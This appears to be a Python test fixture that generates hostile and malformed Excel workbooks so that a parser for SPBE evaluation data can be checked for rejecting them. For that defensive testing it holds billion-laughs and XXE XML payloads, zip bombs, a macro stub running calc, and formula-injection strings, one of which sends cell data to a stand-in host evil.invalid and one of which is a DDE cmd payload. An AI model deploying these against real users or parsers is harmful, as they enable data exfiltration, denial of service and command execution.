@@ -1,0 +1,582 @@
+"""The hostile-input corpus: every kind of bad workbook, generated at test time.
+
+Each case is a function that writes its file(s) into a folder, registered with the
+outcome the build must give:
+
+* ``error``  — the build stops with exactly ``error`` (an SpbeError subclass) whose
+  message holds ``fragment`` and names the file (and ``sheet`` when given);
+* ``reject`` — the build succeeds and the value at ``cell`` is in rejects.csv with
+  ``fragment`` in its reason (nothing dropped: rows read = accepted + rejected);
+* ``read``   — the build succeeds, the values are accepted, and ``fragment`` is said
+  in the report (the manifest's sheet entries) for the analyst to see.
+
+Nothing here is a committed binary: zip bombs, OLE2 containers, XML payloads and
+macro parts are written byte by byte below. Run ``python tests/bad_inputs.py DIR``
+to write every case into ``DIR/<kind>/`` (to try ``spbe check`` by hand, or for
+``benchmarks/bench_hostile.py``).
+"""
+from __future__ import annotations
+
+import io
+import re
+import struct
+import sys
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+from openpyxl import Workbook
+
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+from _workbooks import make_workbook  # noqa: E402
+
+from spbe_tools.cells import MAX_UNCOMPRESSED_BYTES  # noqa: E402
+from spbe_tools.errors import InputError, LayoutError, UnreadableInputError  # noqa: E402
+
+__all__ = ["Case", "CASES", "case_named", "write_case", "ZIP_BOMB_BYTES"]
+
+#: What the zip-bomb sheets inflate to: 3 GiB, fifteen times the limit.
+ZIP_BOMB_BYTES = 3 * 1024 ** 3
+LIMIT_TEXT = f"{MAX_UNCOMPRESSED_BYTES:,} bytes"
+
+
+@dataclass(frozen=True)
+class Case:
+    kind: str
+    outcome: str  # error | reject | read
+    make: Callable[[Path], Path]
+    fragment: str
+    error: type | None = None
+    cell: str | None = None
+    sheet: str | None = None
+
+
+CASES: list[Case] = []
+
+
+def case(kind: str, outcome: str, fragment: str, **kw) -> Callable:
+    def register(fn: Callable[[Path], Path]) -> Callable[[Path], Path]:
+        CASES.append(Case(kind, outcome, fn, fragment, **kw))
+        return fn
+    return register
+
+
+def case_named(kind: str) -> Case:
+    return next(c for c in CASES if c.kind == kind)
+
+
+def write_case(c: Case, folder: Path) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    return c.make(folder)
+
+
+# --- helpers ----------------------------------------------------------------------------
+
+TITLE = ["HASIL EVALUASI SPBE TAHUN 2023"]
+HEAD = ["No", "Nama Instansi", "Indeks", "Predikat"]
+GOOD = [1, "Provinsi Bengkulu", 3.12, "Baik"]
+
+
+def _table(*rows: list) -> list[list]:
+    """Title, header, a good row (row 3), then ``rows`` from row 4."""
+    return [TITLE, HEAD, GOOD, *rows]
+
+
+def _book(folder: Path, name: str, rows: list, merges: tuple = (), sidecar: dict | None = None,
+          sheet: str = "Lampiran") -> Path:
+    return make_workbook(folder / name, {sheet: (rows, list(merges))}, sidecar=sidecar)
+
+
+def _rewrite(path: Path, edits: dict[str, Callable[[bytes], bytes]],
+             extra: dict[str, bytes] | None = None) -> Path:
+    """Rewrite members of a zip package (``edits``: name -> transform), adding ``extra``."""
+    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name in src.namelist():
+            body = src.read(name)
+            dst.writestr(name, edits[name](body) if name in edits else body)
+        for name, body in (extra or {}).items():
+            dst.writestr(name, body)
+    path.write_bytes(out.getvalue())
+    return path
+
+
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def _cell_xml(path: Path, cell: str, xml: str) -> Path:
+    """Replace cell ``cell``'s element in sheet 1 with raw ``xml``."""
+    return _rewrite(path, {SHEET: lambda b: re.sub(
+        rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)'.encode(), xml.encode(), b, count=1)})
+
+
+def _raw_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
+    """A zip written field by field: (name, deflated bytes, crc32, size to declare, method)."""
+    out, central = io.BytesIO(), io.BytesIO()
+    for name, data, crc, size, method in members:
+        offset = out.tell()
+        fields = (20, 0, method, 0, 0x21, crc, len(data), size, len(name.encode()), 0)
+        out.write(struct.pack("<4s5HIIIHH", b"PK\x03\x04", *fields) + name.encode() + data)
+        central.write(struct.pack("<4s6HIIIHHHHHII", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0,
+                                  offset) + name.encode())
+    cd = central.getvalue()
+    n = len(members)
+    path.write_bytes(out.getvalue() + cd + struct.pack("<4s4HIIH", b"PK\x05\x06", 0, 0, n, n,
+                                                      len(cd), out.tell(), 0))
+    return path
+
+
+def _stored(name: str, body: bytes) -> tuple[str, bytes, int, int, int]:
+    return name, body, zlib.crc32(body), len(body), 0
+
+
+def _bomb_member(name: str, size: int, declare: int | None) -> tuple[str, bytes, int, int, int]:
+    """A sheet whose XML inflates to ``size`` bytes of blanks between <sheetData> tags.
+
+    Deflated with a full flush per MiB, so one compressed MiB repeats: seconds to write,
+    a few MiB on disk."""
+    head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
+            b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+    tail = b"</sheetData></worksheet>"
+    chunk = b" " * (1 << 20)
+    n = (size - len(head) - len(tail)) // len(chunk)
+    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
+    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
+    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
+    assert comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH) == block
+    last = comp.compress(tail) + comp.flush()
+    crc = zlib.crc32(head)
+    for _ in range(n):
+        crc = zlib.crc32(chunk, crc)
+    crc = zlib.crc32(tail, crc)
+    total = len(head) + n * len(chunk) + len(tail)
+    return name, first + block * n + last, crc, total if declare is None else declare, 8
+
+
+def _package_members(sheet_member: tuple) -> list[tuple]:
+    """A minimal .xlsx around one (possibly hostile) sheet member."""
+    ns = 'xmlns="http://schemas.openxmlformats.org/'
+    rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+    parts = {
+        "[Content_Types].xml": f'<?xml version="1.0"?><Types {ns}package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
+        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
+        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
+        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+        'spreadsheetml.worksheet+xml"/></Types>',
+        "_rels/.rels": f'<?xml version="1.0"?><Relationships {ns}package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
+        '</Relationships>',
+        "xl/workbook.xml": f'<?xml version="1.0"?><workbook {ns}spreadsheetml/2006/main" '
+        f'xmlns:r="{rel}"><sheets><sheet name="Lampiran" sheetId="1" r:id="rId1"/></sheets>'
+        '</workbook>',
+        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0"?><Relationships '
+        f'{ns}package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" '
+        'Target="worksheets/sheet1.xml"/></Relationships>',
+    }
+    return [_stored(n, b.encode()) for n, b in parts.items()] + [sheet_member]
+
+
+def _ole2(path: Path, streams: list[str]) -> Path:
+    """An OLE2 (compound file) header and a directory sector naming ``streams``."""
+    header = bytearray(512)
+    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+    header[24:34] = struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + b"\x06\x00"
+    entries = b""
+    for name in ["Root Entry", *streams]:
+        raw = name.encode("utf-16-le") + b"\0\0"
+        entries += raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), 2, 1).ljust(64, b"\0")
+    path.write_bytes(bytes(header) + entries.ljust(512, b"\0") + b"\0" * 1024)
+    return path
+
+
+# --- cannot be opened -------------------------------------------------------------------
+
+@case("not-a-zip", "error", "not a zip archive", error=UnreadableInputError)
+def not_a_zip(folder: Path) -> Path:
+    path = folder / "csv_renamed.xlsx"
+    path.write_bytes(b"Nama Instansi;Indeks\nKota Bengkulu;2,61\n")
+    return path
+
+
+@case("empty-file", "error", "not a zip archive", error=UnreadableInputError)
+def empty_file(folder: Path) -> Path:
+    path = folder / "kosong.xlsx"
+    path.write_bytes(b"")
+    return path
+
+
+@case("truncated-zip", "error", "damaged or truncated", error=UnreadableInputError)
+def truncated_zip(folder: Path) -> Path:
+    path = _book(folder, "terpotong.xlsx", _table())
+    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
+    return path
+
+
+@case("zip-not-a-workbook", "error", "not an .xlsx workbook (no xl/workbook.xml)",
+      error=UnreadableInputError)
+def zip_not_a_workbook(folder: Path) -> Path:
+    return _raw_zip(folder / "dokumen.xlsx", [_stored("word/document.xml", b"<w:document/>")])
+
+
+@case("old-xls", "error", "save it as .xlsx", error=UnreadableInputError)
+def old_xls(folder: Path) -> Path:
+    return _ole2(folder / "hasil_2019.xls", ["Workbook", "\x05SummaryInformation"])
+
+
+@case("xls-renamed-xlsx", "error", "old .xls saved under an .xlsx name",
+      error=UnreadableInputError)
+def xls_renamed(folder: Path) -> Path:
+    return _ole2(folder / "hasil_2019.xlsx", ["Workbook", "\x05SummaryInformation"])
+
+
+def _ods(path: Path) -> Path:
+    mime = b"application/vnd.oasis.opendocument.spreadsheet"
+    return _raw_zip(path, [_stored("mimetype", mime),
+                           _stored("content.xml", b"<office:document-content/>")])
+
+
+@case("ods", "error", "save it as .xlsx", error=UnreadableInputError)
+def ods(folder: Path) -> Path:
+    return _ods(folder / "hasil.ods")
+
+
+@case("ods-renamed-xlsx", "error", "OpenDocument (.ods) spreadsheet under another name",
+      error=UnreadableInputError)
+def ods_renamed(folder: Path) -> Path:
+    return _ods(folder / "hasil.xlsx")
+
+
+@case("encrypted", "error", "encrypted (password-protected)", error=UnreadableInputError)
+def encrypted(folder: Path) -> Path:
+    # What Excel writes for "Encrypt with Password": an OLE2 container, not a zip.
+    return _ole2(folder / "terkunci.xlsx",
+                 ["\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"])
+
+
+@case("corrupt-sheet-xml", "error", "cannot be read", error=UnreadableInputError)
+def corrupt_xml(folder: Path) -> Path:
+    path = _book(folder, "rusak.xlsx", _table())
+    return _rewrite(path, {SHEET: lambda b: b.replace(b"</sheetData>", b"<row><c r=")})
+
+
+def _with_dtd(body: bytes, dtd: str) -> bytes:
+    """``body`` with a DOCTYPE in its prolog (after the XML declaration when there is one)."""
+    if body.startswith(b"<?xml"):
+        end = body.index(b"?>") + 2
+        return body[:end] + dtd.encode() + body[end:]
+    return dtd.encode() + body
+
+
+_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
+           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
+                     for i in range(1, 10)) + "]>")
+
+
+@case("xml-billion-laughs-sheet", "error", "declares a DTD or entities", error=UnreadableInputError,
+      sheet="Lampiran")
+def billion_laughs_sheet(folder: Path) -> Path:
+    path = _book(folder, "lol.xlsx", _table())
+    return _rewrite(path, {SHEET: lambda b: _with_dtd(b, _LAUGHS)
+                           .replace(b"Provinsi Bengkulu", b"&lol9;")})
+
+
+@case("xml-billion-laughs-workbook", "error", "xl/workbook.xml declares a DTD or entities",
+      error=UnreadableInputError)
+def billion_laughs_workbook(folder: Path) -> Path:
+    path = _book(folder, "lol_wb.xlsx", _table())
+    return _rewrite(path, {"xl/workbook.xml": lambda b: _with_dtd(b, _LAUGHS)
+                           .replace(b'name="Lampiran"', b'name="&lol9;"')})
+
+
+SECRET = "RAHASIA-TIDAK-BOLEH-TERBACA"
+
+
+@case("xml-external-entity", "error", "declares a DTD or entities", error=UnreadableInputError,
+      sheet="Lampiran")
+def external_entity(folder: Path) -> Path:
+    secret = folder / "secret.txt"
+    secret.write_text(SECRET)
+    dtd = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>'
+    path = _book(folder, "xxe.xlsx", _table())
+    return _rewrite(path, {SHEET: lambda b: _with_dtd(b, dtd)
+                           .replace(b"Provinsi Bengkulu", b"&xxe;")})
+
+
+@case("zip-bomb", "error", f"above the limit of {LIMIT_TEXT}", error=UnreadableInputError)
+def zip_bomb(folder: Path) -> Path:
+    member = _bomb_member(SHEET, ZIP_BOMB_BYTES, declare=None)
+    return _raw_zip(folder / "bom.xlsx", _package_members(member))
+
+
+@case("zip-bomb-lying-header", "error", "does not match the size or checksum its header",
+      error=UnreadableInputError)
+def zip_bomb_lying(folder: Path) -> Path:
+    member = _bomb_member(SHEET, ZIP_BOMB_BYTES, declare=2048)
+    return _raw_zip(folder / "bom_bohong.xlsx", _package_members(member))
+
+
+# --- sheets that hold no table ----------------------------------------------------------
+
+@case("no-header", "error", "no header row found", error=LayoutError, sheet="Catatan")
+def no_header(folder: Path) -> Path:
+    return _book(folder, "catatan.xlsx", [["Daftar hadir rapat"], ["Budi", "Ani"]],
+                 sheet="Catatan")
+
+
+@case("header-without-data", "error", "no data rows below it", error=LayoutError,
+      sheet="Lampiran")
+def header_without_data(folder: Path) -> Path:
+    return _book(folder, "kosong_data.xlsx", [TITLE, HEAD, [], ["Keterangan: belum diisi"]])
+
+
+@case("workbook-without-cells", "error", "no sheet in the workbook holds any cells",
+      error=LayoutError)
+def workbook_without_cells(folder: Path) -> Path:
+    path = folder / "tanpa_isi.xlsx"
+    Workbook().save(path)
+    return path
+
+
+@case("year-not-stated", "error", "evaluation year is not stated", error=InputError,
+      sheet="Lampiran")
+def year_not_stated(folder: Path) -> Path:
+    return _book(folder, "tanpa_tahun.xlsx", [HEAD, GOOD])
+
+
+# --- sidecars ---------------------------------------------------------------------------
+
+@case("sidecar-invalid-yaml", "error", "the sidecar is not valid YAML", error=InputError)
+def sidecar_invalid_yaml(folder: Path) -> Path:
+    path = _book(folder, "hasil.xlsx", _table())
+    (folder / "hasil.source.yml").write_text("publisher: [belum ditutup\nevaluation_year: 2023\n")
+    return path
+
+
+@case("sidecar-not-a-mapping", "error", "must be a YAML mapping", error=InputError)
+def sidecar_list(folder: Path) -> Path:
+    path = _book(folder, "hasil.xlsx", _table())
+    (folder / "hasil.source.yml").write_text("- 2023\n- KemenPANRB\n")
+    return path
+
+
+@case("sidecar-unknown-key", "error", "unknown sidecar key(s) ['tahun']", error=InputError)
+def sidecar_unknown_key(folder: Path) -> Path:
+    return _book(folder, "hasil.xlsx", _table(), sidecar={"tahun": 2023})
+
+
+@case("sidecar-contradicts-year", "error", "the evaluation year is contradictory",
+      error=InputError, sheet="Lampiran")
+def sidecar_contradicts(folder: Path) -> Path:
+    return _book(folder, "hasil.xlsx", _table(), sidecar={"evaluation_year": 2022})
+
+
+@case("sidecar-synthetic-mismatch", "error", "synthetic data must say so in both",
+      error=InputError)
+def sidecar_synthetic(folder: Path) -> Path:
+    return _book(folder, "hasil.xlsx", _table(), sidecar={"synthetic": True})
+
+
+# --- bad values: rejected with their cell, nothing dropped ------------------------------
+
+@case("formula-without-cached-value", "reject", "holds a formula with no cached value",
+      cell="C4")
+def formula_uncached(folder: Path) -> Path:
+    return _book(folder, "rumus.xlsx", _table([2, "Kota Bengkulu", "=2.6+0.01", "Baik"]))
+
+
+@case("index-text", "reject", "text 'dua koma enam' where a number was expected", cell="C4")
+def index_text(folder: Path) -> Path:
+    return _book(folder, "teks.xlsx", _table([2, "Kota Bengkulu", "dua koma enam", "Baik"]))
+
+
+@case("index-negative", "reject", "index -1.2 in C4 is outside", cell="C4")
+def index_negative(folder: Path) -> Path:
+    return _book(folder, "negatif.xlsx", _table([2, "Kota Bengkulu", -1.2, "Baik"]))
+
+
+@case("index-above-5", "reject", "index 5.4 in C4 is outside", cell="C4")
+def index_above_five(folder: Path) -> Path:
+    return _book(folder, "lebih.xlsx", _table([2, "Kota Bengkulu", "5,4", "Baik"]))
+
+
+@case("index-nan-text", "reject", "text 'NaN' where a number was expected", cell="C4")
+def index_nan_text(folder: Path) -> Path:
+    return _book(folder, "nan.xlsx", _table([2, "Kota Bengkulu", "NaN", "Baik"]))
+
+
+@case("index-nan-number", "error", "a number cell stores 'NaN', which is not a number",
+      error=UnreadableInputError, sheet="Lampiran", cell="C4")
+def index_nan_number(folder: Path) -> Path:
+    path = _book(folder, "nan_angka.xlsx", _table([2, "Kota Bengkulu", 0.5, "Baik"]))
+    return _cell_xml(path, "C4", '<c r="C4" t="n"><v>NaN</v></c>')
+
+
+@case("index-excel-error", "reject", "the Excel error value #N/A", cell="C4")
+def index_excel_error(folder: Path) -> Path:
+    path = _book(folder, "galat.xlsx", _table([2, "Kota Bengkulu", 0.5, "Baik"]))
+    return _cell_xml(path, "C4", '<c r="C4" t="e"><f>NA()</f><v>#N/A</v></c>')
+
+
+@case("index-boolean", "reject", "a boolean (True) where a number", cell="C4")
+def index_boolean(folder: Path) -> Path:
+    return _book(folder, "boolean.xlsx", _table([2, "Kota Bengkulu", True, "Baik"]))
+
+
+@case("index-date", "reject", "a date (2023-02-06T00:00:00) where a number", cell="C4")
+def index_date(folder: Path) -> Path:
+    import datetime as dt
+
+    return _book(folder, "tanggal.xlsx", _table([2, "Kota Bengkulu", dt.datetime(2023, 2, 6),
+                                                 "Baik"]))
+
+
+@case("index-empty", "reject", "index in C4 is empty", cell="C4")
+def index_empty(folder: Path) -> Path:
+    return _book(folder, "kosong_nilai.xlsx", _table([2, "Kota Bengkulu", None, "Baik"]))
+
+
+@case("predikat-unknown", "reject", "predikat 'Sedang' is not a band", cell="C4")
+def predikat_unknown(folder: Path) -> Path:
+    return _book(folder, "predikat.xlsx", _table([2, "Kota Bengkulu", 2.61, "Sedang"]))
+
+
+@case("instansi-unknown", "reject", "instansi not identified", cell="C4")
+def instansi_unknown(folder: Path) -> Path:
+    return _book(folder, "asing.xlsx", _table([2, "Kota Atlantis Raya", 2.61, "Baik"]))
+
+
+@case("instansi-empty", "reject", "the instansi name is empty", cell="C4")
+def instansi_empty(folder: Path) -> Path:
+    return _book(folder, "tanpa_nama.xlsx", _table([2, None, 2.61, "Baik"]))
+
+
+INJECTED_NAME = '=HYPERLINK("http://evil.invalid/?x="&A1,"klik")'
+INJECTED_PREDIKAT = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@case("formula-injection-text", "reject", "is not a band of", cell="C4")
+def formula_injection(folder: Path) -> Path:
+    """Text cells (not formulas) that a spreadsheet would evaluate if we wrote them back."""
+    wb = Workbook()
+    for row in _table([2, "x", 2.61, "x"]):
+        wb.active.append(row)
+    for ref, text in (("B4", INJECTED_NAME), ("D4", INJECTED_PREDIKAT)):
+        wb.active[ref] = text
+        wb.active[ref].data_type = "s"
+    wb.save(folder / "suntik.xlsx")
+    return folder / "suntik.xlsx"
+
+
+@case("year-not-registered", "reject", "2015 is not a registered SPBE evaluation year",
+      cell="C2")
+def year_not_registered(folder: Path) -> Path:
+    return _book(folder, "tahun.xlsx", [["Tahun", "Instansi", "Indeks"],
+                                        [2015, "Kota Bengkulu", 2.1],
+                                        [2023, "Provinsi Bengkulu", 3.12]])
+
+
+@case("same-instansi-twice-different-values", "reject", "conflicting values for Kota Bengkulu",
+      cell="C4")
+def duplicate_conflict(folder: Path) -> Path:
+    return _book(folder, "ganda.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"],
+                                              [3, "Pemkot Bengkulu", 2.16, "Cukup"]))
+
+
+@case("two-files-same-year-conflict", "reject", "conflicting values for Kota Bengkulu",
+      cell="C4")
+def two_files_conflict(folder: Path) -> Path:
+    _book(folder, "b_sumber_kedua.xlsx", _table([2, "Kota Bengkulu", 2.16, "Cukup"]))
+    return _book(folder, "a_sumber_pertama.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
+
+
+@case("merged-cells-across-data-rows", "reject", "merged range starting at C4", cell="C5")
+def merged_rows(folder: Path) -> Path:
+    return _book(folder, "gabung.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"],
+                                               [3, "Kabupaten Kaur", None, "Baik"]),
+                 merges=("C4:C5",))
+
+
+@case("row-below-notes", "reject", "below the table's notes", cell="C5")
+def row_below_notes(folder: Path) -> Path:
+    return _book(folder, "di_bawah.xlsx", _table(["Keterangan: ekstrak"],
+                                                 [2, "Kota Bengkulu", 2.61, "Baik"]))
+
+
+# --- odd but readable: read, and said so -------------------------------------------------
+
+@case("xlsm-with-macros", "read", "macros present (xl/vbaProject.bin)")
+def xlsm_macros(folder: Path) -> Path:
+    path = _book(folder, "makro.xlsm", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
+    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Auto_Open\"\nShell \"calc\""
+    override = (b'<Override PartName="/xl/vbaProject.bin" ContentType="application/'
+                b'vnd.ms-office.vbaProject"/></Types>')
+    return _rewrite(path, {"[Content_Types].xml": lambda b: b.replace(b"</Types>", override)},
+                    extra={"xl/vbaProject.bin": vba})
+
+
+@case("hidden-sheet", "read", "the sheet is hidden in the workbook; its rows were read")
+def hidden_sheet(folder: Path) -> Path:
+    wb = Workbook()
+    wb.active.title = "Lampiran"
+    for row in _table():
+        wb.active.append(row)
+    ws = wb.create_sheet("Tersembunyi")
+    for row in [TITLE, HEAD, [1, "Kota Bengkulu", 2.61, "Baik"]]:
+        ws.append(row)
+    ws.sheet_state = "hidden"
+    wb.save(folder / "sembunyi.xlsx")
+    return folder / "sembunyi.xlsx"
+
+
+@case("hidden-rows", "read", "1 hidden row(s) read: 4")
+def hidden_rows(folder: Path) -> Path:
+    wb = Workbook()
+    for row in _table([2, "Kota Bengkulu", 2.61, "Baik"]):
+        wb.active.append(row)
+    wb.active.row_dimensions[4].hidden = True
+    wb.save(folder / "baris.xlsx")
+    return folder / "baris.xlsx"
+
+
+LAST_ROW = 1_048_576
+
+
+@case("million-blank-rows", "read", '"layout": "annex"')
+def million_blank_rows(folder: Path) -> Path:
+    """Every row of the sheet present, each with a formatted blank cell (a used range
+    of 1,048,576 rows): the table above must be read, quickly."""
+    path = _book(folder, "sejuta.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
+    blanks = b"".join(b'<row r="%d"><c r="A%d" s="0"/><c r="B%d"/></row>' % (n, n, n)
+                      for n in range(5, LAST_ROW + 1))
+    return _rewrite(path, {SHEET: lambda b: re.sub(
+        rb'<dimension ref="[^"]*"/>', f'<dimension ref="A1:D{LAST_ROW}"/>'.encode(), b)
+        .replace(b"</sheetData>", blanks + b"</sheetData>")})
+
+
+@case("note-in-last-row", "read", "Catatan: baris terakhir lembar")
+def note_in_last_row(folder: Path) -> Path:
+    """One note in row 1,048,576: a million blank rows between it and the table."""
+    path = _book(folder, "catatan_akhir.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
+    note = (b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Catatan: baris terakhir lembar'
+            b'</t></is></c></row>' % (LAST_ROW, LAST_ROW))
+    return _rewrite(path, {SHEET: lambda b: b.replace(b"</sheetData>", note + b"</sheetData>")})
+
+
+def main(argv: list[str]) -> int:
+    if len(argv) != 1:
+        print("usage: python tests/bad_inputs.py OUTPUT_FOLDER", file=sys.stderr)
+        return 2
+    root = Path(argv[0])
+    for c in CASES:
+        path = write_case(c, root / c.kind)
+        print(f"{c.kind:<40} {c.outcome:<7} {path}")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main(sys.argv[1:]))
